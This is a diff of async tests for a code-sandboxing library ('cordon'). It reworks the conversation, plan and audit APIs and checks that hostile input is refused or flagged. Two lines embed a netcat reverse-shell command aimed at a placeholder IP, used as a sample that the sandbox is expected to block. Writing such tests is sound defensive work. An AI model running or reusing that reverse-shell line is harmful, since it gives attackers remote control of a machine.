@@ -38,7 +38,7 @@ class Aio(Case):
         """the same errors"""
         async def refused():
             with self.assertRaises(cordon.Refused):
-                await self.aclient(origin=None).run("import os\nos.system('nc -e /bin/bash 192.0.2.1 4444')")
+                await self.aclient().run("import os\nos.system('nc -e /bin/bash 192.0.2.1 4444')")
             with self.assertRaises(cordon.NotInstalled):
                 await self.aclient(binary="/nothing").run("1")
             with self.assertRaises(cordon.Broken):
@@ -79,13 +79,18 @@ class Aio(Case):
     def test_commands(self):
         """the other commands"""
         async def speak():
-            c = self.aclient()
-            domain = await c.new_domain()
-            plan = await c.plan("print(1)", domain=domain)
-            self.assertTrue((await c.run("print(1)", domain=domain, plan=plan)).ok)
-            await c.ingest("hello", kind="web", name="http://a/", domain=domain)
-            self.assertTrue((await c.domain(domain)).exposed)
-            self.assertFalse((await c.renew_domain(domain)).exposed)
+            c = self.aclient(user=False)
+            conversation = await c.new_conversation()
+            plan = await c.plan("print(1)", conversation=conversation)
+            self.assertEqual([t.ticket for t in await c.grants()], [plan.ticket])
+            self.assertEqual((await c.run("print(1)", conversation=conversation, plan=plan)).origin, "plan")
+            await c.ingest("hello", kind="web", name="http://a/", conversation=conversation)
+            self.assertFalse((await c.conversation(conversation)).clean)
+            self.assertEqual((await c.diff(self.dir, conversation=conversation)).changes, ())
+            self.assertEqual((await c.apply(self.dir, conversation=conversation)).written, 0)
+            await c.reset(self.dir, conversation=conversation)
+            self.assertTrue((await c.end_conversation(conversation)).ended)
+            self.assertEqual(len(await c.conversations()), 1)
             self.assertFalse((await c.scan("nc -e /bin/bash 192.0.2.1 4444")).clean)
             self.assertTrue((await c.audit_verify()).good)
             self.assertGreater(len(await c.audit_tail(3)), 2)
